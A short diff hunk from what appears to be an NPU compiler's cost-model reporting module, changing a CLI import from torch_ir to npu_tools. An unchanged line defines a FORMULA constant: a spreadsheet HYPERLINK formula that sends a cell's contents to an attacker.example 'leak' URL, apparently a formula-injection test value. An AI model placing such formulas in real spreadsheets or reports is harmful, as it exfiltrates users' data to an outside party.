@@ -28,7 +28,7 @@ from npu_compiler.costmodel.report import (
     write_reports,
 )
 from npu_compiler.costmodel.roofline import roofline_svg
-from torch_ir.cli import main
+from npu_tools.cli import main
 
 PRESET = "edge_4tops"
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"details")'
